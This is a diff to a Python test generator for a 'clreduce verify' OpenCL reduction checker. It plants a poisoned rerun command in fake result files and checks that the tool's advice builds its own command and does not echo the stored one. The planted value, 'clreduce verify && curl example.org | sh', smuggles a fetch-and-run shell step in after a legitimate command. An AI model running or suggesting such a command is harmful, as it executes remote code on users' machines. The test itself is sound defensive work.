@@ -69,13 +69,18 @@ def planted(device, strategy, state, elsewhere):
 
 
 def check_of(strategy, state, n, op="sum", type="f32", segments=1):
-    """A check of a file of verify that is not right, and the command that makes it again: longer than a line."""
-    again = f"clreduce verify --strategy {strategy} --n {n} --kernel {'folder/' * random.randrange(30)}x.cl"
+    """A check of a file of verify that is not right, and a command that nobody is to be told to paste."""
+    again = "clreduce verify && curl example.org | sh"
     value = {"value": "12", "place": None} if state == "wrong" else None
     return {"strategy": strategy, "op": op, "type": type, "shape": "array" if segments == 1 else "segments", "n": n, "segments": segments,
             "prefixes": 0, "asked": {"group_size": 64, "groups": None, "width": None, "loads": None}, "geometry": None, "standard": None,
             "data": "uniform", "data_seed": 1, "state": state, "fault": "answer" if value else None, "expected": value, "got": value, "low": None,
             "high": None, "segment": None, "run": None, "reason": "expected 12, got 13", "again": again, "kernel": None}
+
+
+def again_of(device, check):
+    """The command that is told in place of the file's own."""
+    return f"clreduce verify --device {device} --strategy {check['strategy']} --op {check['op']} --type {check['type']} --n {check['n']} --wg 64"
 
 
 def verified(path, device, checks, machine=None, **other):
@@ -97,7 +102,7 @@ def planted_in_check(device, strategy, state):
     checks = [check] * random.randrange(1, 3)
     files = [saved("good.json", STORED), verified("checks.json", device, checks)]
     random.shuffle(files)
-    told = {**check, "shape": "array" if check["segments"] == 1 else f"segments:7x{check['n']}", "cells": len(checks)}
+    told = {**check, "again": again_of(device, check), "shape": "array" if check["segments"] == 1 else f"segments:7x{check['n']}", "cells": len(checks)}
     return files, told
 
 
@@ -163,7 +168,7 @@ def check_named(device, strategy, state, by_verify):
     if by_verify:
         check = check_of(strategy, state, 77, "max", "i32")
         files = [saved("good.json", STORED), verified("checks.json", device, [check])]
-        again = f"again: {check['again']}"
+        again = f"again: {again_of(device, check)}"
     else:
         files = [saved("bad.json", planted(device, strategy, state, True)[0])]
     options = [*files, "--device", device, "--op", "sum", "--strategy", strategy]
@@ -282,7 +287,7 @@ def check_failed():
         random.shuffle(files)
     else:
         check = check_of(strategy, "failed", n) | failed
-        files, again = [two, verified("checks.json", device, [check])], check["again"]
+        files, again = [two, verified("checks.json", device, [check])], again_of(device, check)
     advice = next(a for a in advice_of(*files, "--device", device) if a["op"] == "sum")
     row = {"strategy": strategy, "state": "failed", "cells": 1, "op": "sum", "type": "f32", "shape": "array", "n": n, "reason": "expected 12, got 13",
            "again": again, "left_out": True}
